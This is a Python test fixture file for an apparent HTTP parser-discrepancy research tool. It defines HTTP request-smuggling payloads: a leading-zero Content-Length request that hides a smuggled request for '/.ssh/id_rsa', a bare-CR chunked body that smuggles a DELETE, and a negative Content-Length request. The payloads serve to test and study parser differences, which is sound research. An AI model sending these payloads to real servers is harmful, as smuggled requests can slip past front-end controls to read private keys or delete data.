import pytest

from httpdelta.personalities import builtin_registry, registry_by_name


# --- Attack payloads reconstructed from the published figures ---------------

# Leading-zero Content-Length: "0200" is 200 bytes in decimal but 128 in
# octal.  The decimal reader sees a 200-byte opaque body followed by a
# harmless GET; the octal reader stops 72 bytes early and parses the
# embedded request (with its own Content-Length: 56 swallowing the rest).
FIG5_EMBEDDED = (b"GET /.ssh/id_rsa HTTP/1.1\r\n"
                 b"Content-Length: 56\r\n"
                 b"\r\n")
FIG5_PAYLOAD = (b"GET / HTTP/1.1\r\n"
                b"Content-Length: 0200\r\n"
                b"\r\n"
                + b"A" * 128 + FIG5_EMBEDDED + b"A" * 23 +
                b"GET / HTTP/1.1\r\n"
                b"Host: whateva\r\n"
                b"\r\n")

# Bare-CR chunk lines: a reader that treats a lone CR as a chunk-line
# terminator sees chunk sizes 2 ("2\r\r"), 2 ("02") and 0, then parses
# the DELETE; a CRLF-only reader sees sizes 2 and 0x2d=45, swallowing
# the DELETE inside chunk data, then parses the trailing GET.
FIG6_PAYLOAD = (b"POST / HTTP/1.1\r\n"
                b"Host: whatever\r\n"
                b"Transfer-Encoding: chunked\r\n"
                b"\r\n"
                b"2\r\r;a\r\n"
                b"02\r\n"
                b"2d\r\n"
                b"0\r\n\r\nDELETE / HTTP/1.1\r\nContent-Length: 23\r\n\r"
                b"\n"
                b"0\r\n"
                b"\r\n"
                b"GET / HTTP/1.1\r\n"
                b"\r\n")

NEGATIVE_CL_PAYLOAD = b"GET / HTTP/1.1\r\nContent-Length: -7\r\n\r\n"


@pytest.fixture(scope="session")
def registry():
    return registry_by_name(builtin_registry())


@pytest.fixture(scope="session")
def quirks_by_name(registry):
    from httpdelta.analysis import origin_handle, probe_quirks
    return {name: probe_quirks(origin_handle(p))
            for name, p in registry.items()}
